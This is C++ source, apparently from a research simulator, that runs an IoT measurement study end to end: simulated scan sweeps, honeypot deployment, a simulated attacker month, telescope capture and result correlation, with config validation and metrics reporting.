                                        *population_, config_.seed + 12);
}

void Study::run_attack_month() {
  // Six public addresses for the honeypot groups (Figure 1).
  std::vector<util::Ipv4Addr> addresses;
  for (int i = 0; i < 6; ++i) {
    addresses.push_back(population_->allocate_extra());
  }
  deployment_ = honeynet::make_deployment(addresses, attack_log_);
  for (auto& honeypot : deployment_.honeypots) {
    honeypot->attach(*fabric_);
  }

  attackers::FleetConfig fleet_config;
  fleet_config.seed = config_.seed + 7;
  fleet_config.duration = config_.attack_duration;
  fleet_config.event_scale = config_.attack_scale;
  fleet_config.listing_boost = config_.listing_boost;
  fleet_ = std::make_unique<attackers::Fleet>(fleet_config, *population_,
                                              deployment_, *telescope_);
  fleet_->deploy(*fabric_, rdns_, virustotal_, greynoise_, censys_);

  const sim::Time start = sim_.now();
  sim_.run_until(start + config_.attack_duration + sim::hours(1));
}

void Study::correlate() {
  infected_ = correlate_infected(findings_, attack_log_, *telescope_);
  std::set<std::uint32_t> correlated;
  correlated.insert(infected_.both.begin(), infected_.both.end());
  correlated.insert(infected_.honeypot_only.begin(),
                    infected_.honeypot_only.end());
  correlated.insert(infected_.telescope_only.begin(),
                    infected_.telescope_only.end());
  censys_extra_ =
      censys_extra_iot(attack_log_, *telescope_, correlated, censys_);
}

void Study::run_all() {
  setup_internet();
  run_scan();
  run_datasets();
  run_attack_month();
  correlate();
}

std::vector<std::string> Study::scan_service_domains() const {
  std::vector<std::string> domains;
  for (const auto& spec : attackers::scan_service_specs()) {
    domains.push_back(spec.domain);
  }
  return domains;
}

}  // namespace ofh::core
