#include "core/study.h"

#include <algorithm>
#include <cassert>
#include <chrono>
#include <cstdio>
#include <functional>

#include "core/scan_shard.h"
#include "core/trace_report.h"
#include "devices/paper_stats.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "scanner/scanner.h"
#include "sim/parallel.h"

namespace ofh::core {
namespace {

// Current value of one Domain::kSim counter/gauge by name (0 if the metric
// was never defined). Snapshots the registry: call only at phase
// boundaries / report time, never on a hot path.
std::int64_t metric_value(std::string_view name) {
  for (const auto& row : obs::Registry::global().snapshot()) {
    if (row.name == name) return row.value;
  }
  return 0;
}

// (fabric.packets_sent, fabric.packets_faulted) in one snapshot pass.
std::pair<std::uint64_t, std::uint64_t> fabric_traffic() {
  std::uint64_t sent = 0;
  std::uint64_t faulted = 0;
  for (const auto& row : obs::Registry::global().snapshot()) {
    if (row.name == "fabric.packets_sent") {
      sent = static_cast<std::uint64_t>(row.value);
    } else if (row.name == "fabric.packets_faulted") {
      faulted = static_cast<std::uint64_t>(row.value);
    }
  }
  return {sent, faulted};
}

// Stable phase ids for the introspection board and progress events. 0 is
// "idle" (between phases); the names match the PhaseScope span names.
std::uint8_t phase_id(std::string_view name) {
  if (name == "setup") return 1;
  if (name == "scan") return 2;
  if (name == "filter") return 3;
  if (name == "datasets") return 4;
  if (name == "attack_month") return 5;
  if (name == "correlate") return 6;
  return 0;
}

std::uint64_t sim_day_of(sim::Time now) { return now / sim::days(1); }

// Wraps one Study phase in a trace span: sim timestamps are deterministic,
// the wall-clock duration feeds only the profile channel. When the scope
// closes it optionally appends a Prometheus snapshot to the Study's
// phase_metrics_ sequence and the phase's fabric sent/faulted deltas to
// its fault-stats sequence (sub-spans like scan/filter pass nullptr).
// The scope also drives the live introspection hub: phase enter/exit
// events, the seqlock board, and — for top-level phases — the boundary
// text blobs (phase metrics, degradation report) the status service hands
// to remote readers.
class PhaseScope {
 public:
  PhaseScope(std::string name, sim::Simulation& sim, Study* study,
             std::vector<std::pair<std::string, std::string>>* phase_metrics,
             std::vector<PhaseFaultStats>* fault_stats = nullptr)
      : name_(std::move(name)),
        sim_(sim),
        study_(study),
        phase_metrics_(phase_metrics),
        fault_stats_(fault_stats),
        sim_start_(sim.now()),
        // ofh-lint: allow(wall-clock) — phase wall profile: feeds only the obs Domain::kWall channel, quarantined out of every deterministic export
        wall_start_(std::chrono::steady_clock::now()) {
    if (fault_stats_ != nullptr) traffic_start_ = fabric_traffic();
    if (study_ != nullptr) {
      auto& hub = study_->introspection();
      const std::uint8_t id = phase_id(name_);
      previous_phase_ = hub.current_phase();
      hub.set_phase_name(id, name_);
      hub.set_board(id, sim_start_, sim_day_of(sim_start_));
      hub.publish(obs::ProgressKind::kPhaseEnter, id, 0, sim_start_);
    }
  }

  PhaseScope(const PhaseScope&) = delete;
  PhaseScope& operator=(const PhaseScope&) = delete;

  ~PhaseScope() {
    const auto wall_usec =
        std::chrono::duration_cast<std::chrono::microseconds>(
            // ofh-lint: allow(wall-clock) — phase wall profile: the span's wall_usec lands in Domain::kWall only, never in a deterministic export
            std::chrono::steady_clock::now() - wall_start_)
            .count();
    obs::record_span(name_, sim_start_, sim_.now(),
                     static_cast<std::uint64_t>(wall_usec));
    if (phase_metrics_ != nullptr) {
      phase_metrics_->emplace_back(
          name_, obs::Registry::global().export_prometheus());
    }
    if (fault_stats_ != nullptr) {
      const auto [sent, faulted] = fabric_traffic();
      fault_stats_->push_back({name_, sent - traffic_start_.first,
                               faulted - traffic_start_.second});
    }
    if (study_ != nullptr) {
      auto& hub = study_->introspection();
      const std::uint8_t id = phase_id(name_);
      hub.publish(obs::ProgressKind::kPhaseExit, id, 0, sim_.now(),
                  sim_.now() - sim_start_);
      hub.set_board(previous_phase_, sim_.now(), sim_day_of(sim_.now()));
      if (phase_metrics_ != nullptr) {
        // Boundary blobs for the status endpoint. Cheap relative to a
        // phase, and only ever written here (main thread, phase exit).
        std::string all;
        for (const auto& [phase_name, text] : *phase_metrics_) {
          all += "## phase " + phase_name + "\n" + text;
        }
        hub.set_text(obs::IntrospectionHub::TextSlot::kPhaseMetrics,
                     std::move(all));
        hub.set_text(obs::IntrospectionHub::TextSlot::kDegradation,
                     study_->degradation_report());
      }
    }
  }

 private:
  std::string name_;
  sim::Simulation& sim_;
  Study* study_;
  std::vector<std::pair<std::string, std::string>>* phase_metrics_;
  std::vector<PhaseFaultStats>* fault_stats_;
  std::pair<std::uint64_t, std::uint64_t> traffic_start_{0, 0};
  std::uint64_t sim_start_;
  std::uint8_t previous_phase_ = 0;
  // ofh-lint: allow(wall-clock) — storage for the wall-profile anchor above; same Domain::kWall quarantine
  std::chrono::steady_clock::time_point wall_start_;
};

}  // namespace

// ------------------------------------------------------- config validation
//
// Bounds are deliberately generous — they exist to stop the values a hostile
// scenario file can feed in (zero/negative scales, 2^64 thread counts,
// telescope ranges inside populated space), not to police reasonable
// experiments. Every check is written NaN-safe: !(x > 0) catches NaN where
// (x <= 0) would not.

namespace {

// population_scale 16 = 16x the paper's 14.4M hosts (~230M devices), well
// past the roadmap's 10x goal; anything above that is a typo or an attack.
constexpr double kMaxPopulationScale = 16.0;
constexpr double kMaxAttackScale = 1e6;
constexpr std::uint32_t kMaxScanBatch = 1'000'000;
constexpr unsigned kMaxScanThreads = 1'024;
constexpr unsigned kMaxScanWorkers = 256;
// sockaddr_un's sun_path is 108 bytes on Linux; leave headroom for
// suffixes a coordinator may append.
constexpr std::size_t kMaxWorkerEndpoint = 96;
constexpr std::uint32_t kMaxScanAttempts = 16;
constexpr int kMaxSessionAttempts = 16;
constexpr double kMaxListingBoost = 100.0;
constexpr sim::Duration kMaxAttackDuration = sim::days(366);

bool rate_ok(double rate) { return rate >= 0.0 && rate <= 1.0; }

// True when the range shares at least one /8 with the population's address
// pool. allocate_extra() hands honeypots/attackers addresses from the same
// pool, so an overlapping telescope would capture (and double-count)
// legitimate unicast traffic.
bool overlaps_population(const util::Cidr& range) {
  const int lo = range.first().octet(0);
  const int hi = range.last().octet(0);
  for (const auto base : devices::usable_slash8()) {
    if (base >= lo && base <= hi) return true;
  }
  return false;
}

}  // namespace

std::optional<std::string> StudyConfig::validate() const {
  if (!(population_scale > 0.0) || population_scale > kMaxPopulationScale) {
    return "population_scale must be in (0, 16]";
  }
  if (!(attack_scale > 0.0) || attack_scale > kMaxAttackScale) {
    return "attack_scale must be in (0, 1e6]";
  }
  if (attack_duration < sim::hours(1) || attack_duration > kMaxAttackDuration) {
    return "attack_duration must be between 1 hour and 366 days";
  }
  if (scan_batch == 0 || scan_batch > kMaxScanBatch) {
    return "scan_batch must be in [1, 1000000]";
  }
  if (scan_threads > kMaxScanThreads) {
    return "scan_threads must be at most 1024 (0 = hardware)";
  }
  if (scan_workers > kMaxScanWorkers) {
    return "scan_workers must be at most 256 (0 = in-process)";
  }
  if (worker_endpoint.size() > kMaxWorkerEndpoint) {
    return "worker_endpoint must be at most 96 bytes";
  }
  if (scan_attempts == 0 || scan_attempts > kMaxScanAttempts) {
    return "scan_attempts must be in [1, 16]";
  }
  if (session_connect_attempts < 1 ||
      session_connect_attempts > kMaxSessionAttempts) {
    return "session_connect_attempts must be in [1, 16]";
  }
  if (!(listing_boost > 0.0) || listing_boost > kMaxListingBoost) {
    return "listing_boost must be in (0, 100]";
  }
  if (telescope_range.prefix_len() > 24) {
    return "telescope_range must be /24 or wider";
  }
  if (overlaps_population(telescope_range)) {
    return "telescope_range overlaps the population address pool";
  }
  if (!(telescope_rate_scale > 0.0) || telescope_rate_scale > 1.0) {
    return "telescope_rate_scale must be in (0, 1]";
  }
  if (!(telescope_source_scale > 0.0) || telescope_source_scale > 1.0) {
    return "telescope_source_scale must be in (0, 1]";
  }
  if (!rate_ok(fault_budget)) {
    return "fault_budget must be in [0, 1]";
  }
  if (!rate_ok(fault_schedule.uniform_loss) ||
      !rate_ok(fault_schedule.duplicate_rate) ||
      !rate_ok(fault_schedule.reorder_rate)) {
    return "fault rates must be in [0, 1]";
  }
  const auto& burst = fault_schedule.burst;
  if (burst.enabled &&
      (!rate_ok(burst.p_enter) || !rate_ok(burst.p_exit) ||
       !rate_ok(burst.loss_good) || !rate_ok(burst.loss_bad))) {
    return "burst probabilities must be in [0, 1]";
  }
  for (const auto& window : fault_schedule.windows) {
    if (window.end < window.start) {
      return "fault window must not end before it starts";
    }
  }
  return std::nullopt;
}

StudyConfig StudyConfig::clamped() const {
  StudyConfig safe = *this;
  const StudyConfig defaults;
  const auto clamp_rate = [](double& rate) {
    if (!(rate >= 0.0)) rate = 0.0;  // negative or NaN
    if (rate > 1.0) rate = 1.0;
  };
  const auto clamp_pos = [](double& v, double fallback, double max) {
    if (!(v > 0.0)) v = fallback;  // non-positive or NaN
    if (v > max) v = max;
  };
  clamp_pos(safe.population_scale, defaults.population_scale,
            kMaxPopulationScale);
  clamp_pos(safe.attack_scale, defaults.attack_scale, kMaxAttackScale);
  safe.attack_duration = std::clamp<sim::Duration>(
      safe.attack_duration, sim::hours(1), kMaxAttackDuration);
  safe.scan_batch = std::clamp<std::uint32_t>(safe.scan_batch, 1,
                                              kMaxScanBatch);
  safe.scan_threads = std::min(safe.scan_threads, kMaxScanThreads);
  safe.scan_workers = std::min(safe.scan_workers, kMaxScanWorkers);
  if (safe.worker_endpoint.size() > kMaxWorkerEndpoint) {
    safe.worker_endpoint.clear();
  }
  safe.scan_attempts = std::clamp<std::uint32_t>(safe.scan_attempts, 1,
                                                 kMaxScanAttempts);
  safe.session_connect_attempts =
      std::clamp(safe.session_connect_attempts, 1, kMaxSessionAttempts);
  clamp_pos(safe.listing_boost, defaults.listing_boost, kMaxListingBoost);
  if (safe.telescope_range.prefix_len() > 24 ||
      overlaps_population(safe.telescope_range)) {
    safe.telescope_range = defaults.telescope_range;
  }
  clamp_pos(safe.telescope_rate_scale, defaults.telescope_rate_scale, 1.0);
  clamp_pos(safe.telescope_source_scale, defaults.telescope_source_scale,
            1.0);
  clamp_rate(safe.fault_budget);
  clamp_rate(safe.fault_schedule.uniform_loss);
  clamp_rate(safe.fault_schedule.duplicate_rate);
  clamp_rate(safe.fault_schedule.reorder_rate);
  clamp_rate(safe.fault_schedule.burst.p_enter);
  clamp_rate(safe.fault_schedule.burst.p_exit);
  clamp_rate(safe.fault_schedule.burst.loss_good);
  clamp_rate(safe.fault_schedule.burst.loss_bad);
  for (auto& window : safe.fault_schedule.windows) {
    if (window.end < window.start) window.end = window.start;
  }
  return safe;
}

Study::Study(StudyConfig config) : config_(config) {
  assert(!config_.validate().has_value() &&
         "StudyConfig failed validation; see StudyConfig::validate()");
  if (config_.validate().has_value()) config_ = config_.clamped();
  // One Study at a time: the obs registry is process-wide and cumulative,
  // so each study starts from zero. Callers comparing metrics across runs
  // must snapshot (metrics_prometheus / trace_json) before constructing the
  // next Study.
  obs::Registry::global().reset();
  obs::TraceRegistry::global().reset();
  fabric_ = std::make_unique<net::Fabric>(sim_, config_.seed);
  fabric_->set_latency(sim::msec(15), sim::msec(25));
  if (!config_.fault_schedule.empty()) {
    fabric_->set_fault_schedule(config_.fault_schedule);
  }
}

Study::~Study() = default;

std::uint64_t Study::scaled_population(std::uint64_t paper) const {
  return scale_paper_count(paper, config_.population_scale);
}

std::uint64_t Study::scaled_attack(std::uint64_t paper) const {
  return scale_paper_count(paper, config_.attack_scale);
}

void Study::setup_internet() {
  PhaseScope span("setup", sim_, this, &phase_metrics_, &phase_fault_stats_);
  devices::PopulationSpec spec;
  spec.seed = config_.seed;
  spec.scale = config_.population_scale;
  population_ = std::make_unique<devices::Population>(spec);
  population_->build();
  population_->attach_all(*fabric_);

  // Plant third-party honeypots (Table 6 ground truth) among the devices.
  for (const auto& signature : honeynet::honeypot_signatures()) {
    const auto count = scaled_population(signature.paper_count);
    for (std::uint64_t i = 0; i < count; ++i) {
      auto honeypot = std::make_unique<honeynet::WildHoneypot>(
          signature, population_->allocate_extra());
      honeypot->attach(*fabric_);
      wild_honeypots_.push_back(std::move(honeypot));
    }
  }

  telescope_ = std::make_unique<telescope::Telescope>(config_.telescope_range);
  telescope_->attach(*fabric_);
  rsdos_ = std::make_unique<telescope::RsdosDetector>(config_.telescope_range);
  rsdos_->attach(*fabric_);

  geo_ = std::make_unique<intel::GeoDb>(*population_);
}

void Study::run_scan() {
  PhaseScope span("scan", sim_, this, &phase_metrics_, &phase_fault_stats_);
  // Six sweeps spread across one week at the paper's day offsets
  // (Appendix Table 9: CoAP Mar 1; UPnP+Telnet Mar 2; MQTT+AMQP Mar 4;
  // XMPP Mar 5). Each sweep is an independent shard with a splitmix64-
  // derived seed; shards execute on config_.scan_threads workers and their
  // records merge by (time, shard, seq), so scan_db_ is byte-identical no
  // matter how many threads ran (DESIGN.md "Threading model").
  static constexpr std::uint64_t kDayOffsets[] = {0, 1, 1, 3, 3, 4};
  const sim::Time scan_epoch = sim_.now();
  const auto& protocols = proto::scanned_protocols();

  // Every sweep targets the full populated prefix set; its slot total is
  // the address count so remote readers can render done/total bars. The
  // totals (and the folded finals) are deterministic; only the in-flight
  // `done` samples concurrent readers observe are racy-by-design.
  std::uint64_t sweep_targets = 0;
  for (const auto& prefix : population_->prefixes()) {
    sweep_targets += prefix.size();
  }

  std::vector<ScanShardJob> shard_jobs;
  for (std::size_t i = 0; i < protocols.size(); ++i) {
    const proto::Protocol protocol = protocols[i];
    const sim::Time start = scan_epoch + sim::days(kDayOffsets[i]);
    scan_dates_[protocol] = start;
    ScanShardJob job;
    job.index = static_cast<std::uint32_t>(i);
    job.protocol = protocol;
    job.sweep_seed = sim::shard_seed(config_.seed, i);
    job.start = start;
    job.sweep_total = sweep_targets;
    shard_jobs.push_back(job);
    // Sweep slots are allocated in job order, so slot == job.index.
    introspect_.add_sweep(std::string(proto::protocol_name(protocol)),
                          sweep_targets);
  }

  // Shard progress feeds the introspection hub exactly as it always has:
  // live sweep counters from every sample, a kSweepProgress event per
  // stride crossing, one kSweepDone per sweep. The sink is shared by both
  // execution backends, and a distributed dispatcher is contractually
  // required to deliver the same deterministic per-job sequence
  // (core/scan_shard.h), so the event-kind totals are byte-identical at
  // every scan_threads and scan_workers value.
  const std::uint8_t phase = phase_id("scan");
  const ScanShardProgressSink sink = [this, phase, sweep_targets](
                                         std::uint32_t index,
                                         const ScanShardProgress& progress) {
    const auto slot = static_cast<std::size_t>(index);
    const auto event_shard = static_cast<std::uint16_t>(index + 1);
    introspect_.update_sweep(slot, progress.resolved);
    if (progress.kind == ScanShardProgressKind::kStride) {
      introspect_.publish(obs::ProgressKind::kSweepProgress, phase,
                          event_shard, progress.sim_time, progress.resolved,
                          sweep_targets);
    } else if (progress.kind == ScanShardProgressKind::kDone) {
      introspect_.publish(obs::ProgressKind::kSweepDone, phase, event_shard,
                          progress.sim_time, progress.resolved,
                          sweep_targets);
    }
  };

  // Backend selection: an installed dispatcher (worker processes) gets the
  // batch when scan_workers asks for it; everything else — scan_workers of
  // zero, no dispatcher installed, or the dispatcher declining — runs the
  // jobs in-process on the ParallelRunner. Same jobs, same sink, same bytes.
  std::vector<ScanShardResult> shards;
  bool dispatched = false;
  if (config_.scan_workers > 0) {
    if (const ScanShardDispatcher& dispatcher = scan_shard_dispatcher()) {
      if (auto remote = dispatcher(config_, shard_jobs, sink)) {
        shards = std::move(*remote);
        dispatched = true;
      }
    }
  }
  if (!dispatched) {
    std::vector<std::function<ScanShardResult()>> jobs;
    jobs.reserve(shard_jobs.size());
    for (const ScanShardJob& job : shard_jobs) {
      jobs.emplace_back([this, job, sink] {
        return run_scan_shard(config_, job,
                              [&sink, &job](const ScanShardProgress& p) {
                                sink(job.index, p);
                              });
      });
    }
    shards =
        sim::ParallelRunner(config_.scan_threads).run(std::move(jobs));
  }

  sim::Time scan_end = scan_epoch;
  std::vector<std::vector<scanner::ScanRecord>> per_shard;
  per_shard.reserve(shards.size());
  std::size_t total_records = 0;
  for (auto& shard : shards) {
    scan_end = std::max(scan_end, shard.finished);
    scan_db_.note_probes(shard.probes);
    scan_db_.note_responsive(shard.responsive);
    scan_db_.note_refused(shard.refused);
    scan_db_.note_unresolved(shard.unresolved);
    scan_db_.note_retries(shard.retries);
    scan_events_ += shard.events;
    total_records += shard.records.size();
    per_shard.push_back(std::move(shard.records));
  }
  // The merged record count is known exactly before the fold: reserve once
  // so the fold never reallocates (at paper scale the six sweeps land
  // millions of records; tests/parallel_test.cpp pins capacity stability).
  scan_db_.reserve(total_records);
  for (auto& record : sim::merge_by_time(
           std::move(per_shard),
           [](const scanner::ScanRecord& record) { return record.when; })) {
    scan_db_.add(std::move(record));
  }

  // The main timeline advances to the end of the scan window, exactly as it
  // did when the sweeps ran inline on the main simulation.
  sim_.run_until(scan_end);

  // Classification + honeypot filtering is its own sub-span: it runs on the
  // merged DB after the sweeps, and the paper treats it as a distinct step.
  PhaseScope filter_span("filter", sim_, this, nullptr);
  unfiltered_findings_ = classify::classify_all(scan_db_);
  fingerprints_ = classify::fingerprint_all(scan_db_);
  findings_ = config_.filter_honeypots
                  ? classify::filter_honeypots(unfiltered_findings_,
                                               fingerprints_)
                  : unfiltered_findings_;
  // One kVerdict trace event per surviving finding, closing the causal
  // chain scan probe -> banner -> classifier verdict. Findings are already
  // in deterministic (merged scan DB) order; all verdicts land in shard 0.
  for (const auto& finding : findings_) {
    obs::trace_event(obs::TraceEventType::kVerdict, sim_.now(), 0,
                     finding.host.value(), 0, 0,
                     static_cast<std::uint8_t>(finding.misconfig),
                     static_cast<std::uint8_t>(finding.protocol));
  }
}

void Study::run_datasets() {
  PhaseScope span("datasets", sim_, this, &phase_metrics_,
                  &phase_fault_stats_);
  sonar_ = datasets::generate_snapshot(datasets::project_sonar_model(),
                                       *population_, config_.seed + 11);
  shodan_ = datasets::generate_snapshot(datasets::shodan_model(),
                                        *population_, config_.seed + 12);
}

void Study::run_attack_month() {
  PhaseScope span("attack_month", sim_, this, &phase_metrics_,
                  &phase_fault_stats_);
  // Six public addresses for the honeypot groups (Figure 1).
  std::vector<util::Ipv4Addr> addresses;
  for (int i = 0; i < 6; ++i) {
    addresses.push_back(population_->allocate_extra());
  }
  // The campaign's event volume is calibrated to Table 7's monthly total at
  // attack_scale, so pre-size the log (with headroom for the DoS spikes and
  // multistage chains layered on top) instead of growing through ~log2(n)
  // reallocations over the month.
  const auto expected_events = scaled_attack(devices::paper::kTable7Total);
  attack_log_.reserve(
      static_cast<std::size_t>(expected_events + expected_events / 2));
  deployment_ = honeynet::make_deployment(addresses, attack_log_);
  for (auto& honeypot : deployment_.honeypots) {
    honeypot->attach(*fabric_);
  }

  attackers::FleetConfig fleet_config;
  fleet_config.seed = config_.seed + 7;
  fleet_config.duration = config_.attack_duration;
  fleet_config.event_scale = config_.attack_scale;
  fleet_config.listing_boost = config_.listing_boost;
  fleet_config.session_connect_attempts = config_.session_connect_attempts;
  fleet_config.telescope_rate_scale = config_.telescope_rate_scale;
  fleet_config.telescope_source_scale = config_.telescope_source_scale;
  fleet_config.roster = config_.roster;
  fleet_ = std::make_unique<attackers::Fleet>(fleet_config, *population_,
                                              deployment_, *telescope_);
  fleet_->deploy(*fabric_, rdns_, virustotal_, greynoise_, censys_);

  // Run the month one sim-day at a time. run_until() lands the clock on
  // each deadline whether or not events remain, so chunking is behavior-
  // identical to a single run_until(end) call — it only adds deterministic
  // day-boundary stops where the board and a kSimDayAdvance event (attack
  // log size, telescope flowtuples) are published for live readers.
  const sim::Time start = sim_.now();
  const sim::Time end = start + config_.attack_duration + sim::hours(1);
  const std::uint8_t phase = phase_id("attack_month");
  for (sim::Time next = start + sim::days(1); next < end;
       next += sim::days(1)) {
    sim_.run_until(next);
    introspect_.set_board(phase, sim_.now(), sim_day_of(sim_.now()));
    introspect_.publish(obs::ProgressKind::kSimDayAdvance, phase, 0,
                        sim_.now(), attack_log_.size(),
                        telescope_->total_packets());
  }
  sim_.run_until(end);
}

void Study::correlate() {
  PhaseScope span("correlate", sim_, this, &phase_metrics_,
                  &phase_fault_stats_);
  infected_ = correlate_infected(findings_, attack_log_, *telescope_);
  std::set<std::uint32_t> correlated;
  correlated.insert(infected_.both.begin(), infected_.both.end());
  correlated.insert(infected_.honeypot_only.begin(),
                    infected_.honeypot_only.end());
  correlated.insert(infected_.telescope_only.begin(),
                    infected_.telescope_only.end());
  censys_extra_ =
      censys_extra_iot(attack_log_, *telescope_, correlated, censys_);
}

void Study::run_all() {
  setup_internet();
  run_scan();
  run_datasets();
  run_attack_month();
  correlate();
}

std::string Study::metrics_prometheus() const {
  return obs::Registry::global().export_prometheus();
}

std::string Study::metrics_csv() const {
  return obs::Registry::global().export_csv();
}

std::string Study::metrics_profile() const {
  return obs::Registry::global().export_profile();
}

std::string Study::trace_json() const { return trace_chrome_json(); }

std::string Study::attack_chains() const { return attack_chain_report(); }

DegradationBaseline Study::baseline() const {
  DegradationBaseline b;
  b.responsive_hosts = scan_db_.unique_hosts_total();
  b.findings = findings_.size();
  b.attack_events = attack_log_.size();
  b.flowtuples = telescope_ == nullptr ? 0 : telescope_->total_packets();
  return b;
}

std::string Study::degradation_report(
    const DegradationBaseline* fault_free) const {
  const auto value = [](std::string_view name) {
    return static_cast<std::uint64_t>(std::max<std::int64_t>(
        0, metric_value(name)));
  };
  const auto fixed = [](double v, int digits) {
    char buf[64];
    std::snprintf(buf, sizeof buf, "%.*f", digits, v);
    return std::string(buf);
  };
  const auto pct = [&fixed](std::uint64_t part, std::uint64_t whole) {
    return fixed(whole == 0 ? 0.0
                            : 100.0 * static_cast<double>(part) /
                                  static_cast<double>(whole),
                 1) +
           "%";
  };
  const auto num = [](std::uint64_t v) { return std::to_string(v); };

  std::string out;
  out += "degradation report\n";

  const auto& schedule = config_.fault_schedule;
  if (schedule.empty()) {
    out += "schedule: none (fault-free run)\n";
  } else {
    out += "schedule: active windows=" + num(schedule.windows.size()) +
           " uniform_loss=" + fixed(schedule.uniform_loss, 4) +
           " duplicate_rate=" + fixed(schedule.duplicate_rate, 4) +
           " reorder_rate=" + fixed(schedule.reorder_rate, 4) + " burst=";
    out += schedule.burst.enabled ? "on" : "off";
    out += "\n";
  }

  // Fabric conservation: after a full drain inflight is zero and every
  // sent packet is accounted for as delivered, dropped or faulted.
  const std::uint64_t sent = value("fabric.packets_sent");
  const std::uint64_t delivered = value("fabric.packets_delivered");
  const std::uint64_t dropped = value("fabric.packets_dropped");
  const std::uint64_t faulted = value("fabric.packets_faulted");
  const std::uint64_t inflight = value("fabric.packets_inflight");
  const bool conserved = sent == delivered + dropped + faulted + inflight;
  out += "fabric: sent=" + num(sent) + " delivered=" + num(delivered) +
         " dropped=" + num(dropped) + " faulted=" + num(faulted) +
         " inflight=" + num(inflight) + " conservation=";
  out += conserved ? "OK" : "VIOLATED";
  out += "\n";

  out += "faults:";
  for (std::size_t i = 0; i < net::kFaultKindCount; ++i) {
    const auto name = net::fault_kind_name(static_cast<net::FaultKind>(i));
    out += " ";
    out += name;
    out += "=" + num(value(obs::labeled("fabric.faults_injected", "kind",
                                        name)));
  }
  out += " host_crashes=" + num(value("fabric.host_crashes")) + "\n";

  // Scanner outcome accounting (scanner/scan_db.h identity).
  const std::uint64_t probes = scan_db_.probes_sent();
  const std::uint64_t responsive = scan_db_.responsive();
  const std::uint64_t refused = scan_db_.refused();
  const std::uint64_t unresolved = scan_db_.unresolved();
  const bool identity = probes == responsive + refused + unresolved;
  out += "scan: probes=" + num(probes) + " responsive=" + num(responsive) +
         " refused=" + num(refused) + " unresolved=" + num(unresolved) +
         " retries=" + num(scan_db_.retries()) + " accounting=";
  out += identity ? "OK" : "VIOLATED";
  out += "\n";

  out += "phase budgets (max " + fixed(100.0 * config_.fault_budget, 1) +
         "% of sent packets faulted):\n";
  for (const auto& stats : phase_fault_stats_) {
    const bool over =
        stats.sent > 0 &&
        static_cast<double>(stats.faulted) >
            config_.fault_budget * static_cast<double>(stats.sent);
    out += "  " + stats.phase + ": sent=" + num(stats.sent) +
           " faulted=" + num(stats.faulted) + " (" +
           pct(stats.faulted, stats.sent) + ") ";
    out += over ? "OVER" : "OK";
    out += "\n";
  }

  const DegradationBaseline now = baseline();
  out += "results: responsive_hosts=" + num(now.responsive_hosts) +
         " findings=" + num(now.findings) +
         " attack_events=" + num(now.attack_events) +
         " flowtuples=" + num(now.flowtuples) + "\n";
  if (fault_free != nullptr) {
    out += "vs fault-free baseline:\n";
    out += "  responsive_hosts: " + num(now.responsive_hosts) + "/" +
           num(fault_free->responsive_hosts) + " retained (" +
           pct(now.responsive_hosts, fault_free->responsive_hosts) + ")\n";
    out += "  findings: " + num(now.findings) + "/" +
           num(fault_free->findings) + " retained (" +
           pct(now.findings, fault_free->findings) + ")\n";
    out += "  attack_events: " + num(now.attack_events) + "/" +
           num(fault_free->attack_events) + " retained (" +
           pct(now.attack_events, fault_free->attack_events) + ")\n";
    out += "  flowtuples: " + num(now.flowtuples) + "/" +
           num(fault_free->flowtuples) + " retained (" +
           pct(now.flowtuples, fault_free->flowtuples) + ")\n";
  }
  return out;
}

std::vector<std::string> Study::scan_service_domains() const {
  std::vector<std::string> domains;
  for (const auto& spec : attackers::scan_service_specs()) {
    domains.push_back(spec.domain);
  }
  return domains;
}

}  // namespace ofh::core
